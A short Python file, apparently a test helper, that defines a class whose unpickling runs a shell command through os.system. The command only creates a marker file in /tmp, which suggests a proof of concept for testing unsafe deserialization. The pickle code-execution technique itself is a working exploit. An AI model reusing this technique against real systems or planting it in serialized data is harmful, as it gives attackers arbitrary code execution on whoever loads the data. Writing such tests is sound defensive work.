"""Returns an object that runs a command where it is unpickled."""

import os

SAYS = "is a Bomb|Bomb"


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/zth-attack-pickle",)


def strike(*_):
    return Bomb()
